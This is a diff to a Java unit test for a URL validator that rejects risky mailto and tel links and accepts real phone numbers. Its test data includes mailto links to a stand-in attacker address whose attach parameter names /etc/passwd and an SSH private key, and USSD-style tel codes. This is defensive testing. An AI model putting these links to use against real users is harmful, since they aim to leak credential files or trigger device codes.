@@ -82,7 +82,9 @@ class UrlsTest {
         assertNull(Urls.linkProblem("tel:(020)%207946-0000"));
         assertEquals(true, Urls.linkProblem("mailto:desk@evil.example?attach=/etc/passwd&body=see").startsWith("fills in `attach`"));
         assertEquals(true, Urls.linkProblem("mailto:desk@evil.example?Subject=a&ATTACH=~/.ssh/id_rsa").startsWith("fills in `attach`"));
-        for (String code : new String[]{"tel:*2767*3855%23", "tel:*%2306%23", "tel:+44#1", "tel:12"}) {
+        assertNull(Urls.linkProblem("tel:15"), "France's emergency numbers have two digits");
+        assertNull(Urls.linkProblem("tel:+442079460000;ext=2314"), "an extension, as RFC 3966 writes it");
+        for (String code : new String[]{"tel:*2767*3855%23", "tel:*%2306%23", "tel:+44#1", "tel:1"}) {
             assertEquals(true, String.valueOf(Urls.linkProblem(code)).startsWith("is not a telephone number"), code);
         }
         assertEquals("keep only subject=, body= and cc= after the `?`", Urls.linkFix("mailto:a@b.example?attach=x"));
